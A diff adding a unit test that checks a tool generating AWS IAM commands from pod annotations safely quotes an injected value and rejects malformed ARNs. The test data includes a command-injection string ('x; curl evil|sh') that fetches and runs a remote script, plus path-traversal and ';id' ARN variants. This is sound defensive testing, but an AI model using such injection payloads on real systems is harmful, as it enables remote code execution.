@@ -141,6 +141,19 @@ test('of another account it is made of what pods say that they need, audience by
   ])
 })
 
+test('what an annotation says is no command for who pastes it, and no path', () => {
+  const arn = 'arn:aws:iam::999999999999:role/files'
+  const [it] = asked([], [use(arn, 'web', 'x; curl evil|sh')])
+  expect(it?.commands[0]).toMatch(/--client-id-list 'x; curl evil\|sh'$/)
+  const odd = ['a:b:c:d:../../x:role/y', 'arn:aws:iam::999999999999:role/x;id', 'arn:aws:iam::9:role/x', 'files']
+  expect(
+    asked(
+      [],
+      odd.map((one) => use(one)),
+    ),
+  ).toEqual([])
+})
+
 test('Terraform is told by blocks, with what it would evaluate escaped', () => {
   const block = terraformOf({
     Effect: 'Allow',
